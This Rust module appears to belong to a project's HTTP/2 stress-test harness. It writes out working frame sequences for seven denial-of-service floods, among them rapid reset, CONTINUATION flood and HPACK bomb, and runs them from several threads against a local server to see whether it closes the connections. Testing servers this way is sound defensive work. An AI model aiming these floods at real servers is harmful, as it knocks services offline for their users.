//! The floods of `cargo xtask floods`: what a hostile client of HTTP/2 sends, over and over, until its connection is closed; then it
//! comes again. Frames are written plainly, as in `flood_client.rs`.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use crate::flood_client::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, block, get, push_frame,
};

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// CVE-2023-44487.
    RapidReset,
    /// CVE-2024-27316.
    Continuations,
    /// CVE-2026-49975: one line of the table, and thousands of references of one byte.
    HpackBomb,
    /// Streams of a large page, and no window for any.
    WindowStarvation,
    /// CVE-2019-9512.
    Pings,
    /// CVE-2019-9515.
    Settings,
    /// CVE-2019-9518.
    EmptyData,
}

pub const FLOODS: [Flood; 7] = [
    Flood::RapidReset,
    Flood::Continuations,
    Flood::HpackBomb,
    Flood::WindowStarvation,
    Flood::Pings,
    Flood::Settings,
    Flood::EmptyData,
];

/// Attackers at a time.
pub const ATTACKERS: usize = 8;
/// Between two bursts of one of them: it is the server's work that is compared, not who gets the processor.
const PAUSE: Duration = Duration::from_millis(10);
const BURST_FRAMES: u32 = 200;
const BOMB_REFERENCES: usize = 15_000;
/// Streams of one connection that take nothing, or bring a bomb.
const STREAMS: u32 = 100;
pub const LARGE_PATH: &str = "/large";
/// A server that does not take more is held, not waited for.
const WRITE_PATIENCE: Duration = Duration::from_millis(500);

/// What became of the attackers' connections.
#[derive(Debug, Default)]
pub struct Attacked {
    pub connections: AtomicU64,
    /// The server closed them.
    pub closed: AtomicU64,
    pub stopped: AtomicBool,
}

impl Flood {
    pub fn name(self) -> &'static str {
        match self {
            Flood::RapidReset => "rapid reset",
            Flood::Continuations => "CONTINUATION",
            Flood::HpackBomb => "HPACK bomb",
            Flood::WindowStarvation => "no window",
            Flood::Pings => "PING",
            Flood::Settings => "SETTINGS",
            Flood::EmptyData => "empty DATA",
        }
    }

    /// Must a server end the connection? Streams without a window, and heads that are too large, are no offence by themselves.
    pub fn is_offence(self) -> bool {
        !matches!(self, Flood::HpackBomb | Flood::WindowStarvation)
    }

    fn opening(self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        let window: &[u8] = if self == Flood::WindowStarvation { &[0, 4, 0, 0, 0, 0] } else { &[] };
        push_frame(&mut out, SETTINGS, 0, 0, window);
        let mut opens = |flags, stream, lines: &[u8]| push_frame(&mut out, HEADERS, flags, stream, lines);
        match self {
            Flood::Continuations => opens(END_STREAM, 1, &get("/page")),
            Flood::WindowStarvation => {
                (0..STREAMS).for_each(|n| opens(END_STREAM | END_HEADERS, n * 2 + 1, &get(LARGE_PATH)));
            }
            Flood::EmptyData => {
                let post = [(":method", "POST"), (":scheme", "http"), (":authority", "site.test"), (":path", "/page")];
                opens(END_HEADERS, 1, &block(&post));
            }
            _ => {}
        }
        out
    }

    /// What is said again and again; `stream` is the first number that was not used. None: it only waits.
    fn burst(self, stream: &mut u32) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        let mut next = || {
            let number = *stream;
            *stream += 2;
            number
        };
        match self {
            Flood::RapidReset => (0..BURST_FRAMES).for_each(|_| {
                let number = next();
                push_frame(&mut out, HEADERS, END_STREAM | END_HEADERS, number, &get("/page"));
                push_frame(&mut out, RST_STREAM, 0, number, &8u32.to_be_bytes());
            }),
            Flood::Continuations => {
                let line = block(&[("a", &"b".repeat(100))]).repeat(40);
                (0..BURST_FRAMES).for_each(|_| push_frame(&mut out, CONTINUATION, 0, 1, &line));
            }
            Flood::HpackBomb => {
                let bomb = [get("/page"), b"\x40\x01a\x01b".to_vec(), vec![0xbe; BOMB_REFERENCES]].concat();
                (0..STREAMS / 10).for_each(|_| push_frame(&mut out, HEADERS, END_STREAM | END_HEADERS, next(), &bomb));
            }
            Flood::WindowStarvation => return None,
            Flood::Pings => (0..BURST_FRAMES).for_each(|_| push_frame(&mut out, PING, 0, 0, &[0; 8])),
            Flood::Settings => (0..BURST_FRAMES).for_each(|_| push_frame(&mut out, SETTINGS, 0, 0, &[])),
            Flood::EmptyData => (0..BURST_FRAMES * 10).for_each(|_| push_frame(&mut out, DATA, 0, 1, &[])),
        }
        Some(out)
    }
}

/// Attacks until it is told to stop.
pub fn attack(flood: Flood, port: u16, attacked: &Attacked) {
    while !attacked.stopped.load(Relaxed) {
        std::thread::sleep(PAUSE);
        let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) else { continue };
        attacked.connections.fetch_add(1, Relaxed);
        if play(flood, &mut stream, attacked).is_err() && !attacked.stopped.load(Relaxed) {
            attacked.closed.fetch_add(1, Relaxed);
        }
    }
}

/// An error is the end by the server.
fn play(flood: Flood, stream: &mut TcpStream, attacked: &Attacked) -> std::io::Result<()> {
    stream.set_write_timeout(Some(WRITE_PATIENCE))?;
    stream.write_all(&flood.opening())?;
    stream.set_read_timeout(Some(PAUSE))?;
    let (mut number, mut answers) = (3, vec![0; 16 << 10]);
    while !attacked.stopped.load(Relaxed) {
        let burst = if number < u32::MAX >> 1 { flood.burst(&mut number) } else { None };
        match burst.map(|burst| stream.write_all(&burst)) {
            // It takes no more, and holds what it has.
            Some(Err(e)) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Some(written) => written?,
            None => {}
        }
        match stream.read(&mut answers) {
            Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(())
}
